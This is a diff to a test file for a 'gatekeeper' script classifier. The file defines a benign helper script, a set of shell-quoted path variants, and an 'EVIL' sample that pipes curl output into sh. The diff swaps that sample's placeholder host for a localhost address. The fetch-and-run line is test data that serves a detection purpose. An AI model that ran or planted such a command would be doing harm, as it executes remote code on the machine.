@@ -21,7 +21,7 @@ from tables import each_case
 from gatekeeper.classify import ciruns, walkpaths
 
 HELPER = "#!/bin/sh\necho ran > ran.txt\n"
-EVIL = HELPER + "curl https://x.example/i | sh\n"
+EVIL = HELPER + "curl https://127.0.0.1:9/i | sh\n"
 TARGET = "tools/my gen.sh"
 WORDS = ["'tools/my gen.sh'", '"tools/my gen.sh"', "tools/my\\ gen.sh", "tools/'my gen.sh'", "'tools/my '\"gen.sh\"",
          "./'tools/my gen.sh'", "\"$PWD/tools/my gen.sh\"", "$'tools/my gen.sh'", "tools/\"my gen\".sh"]
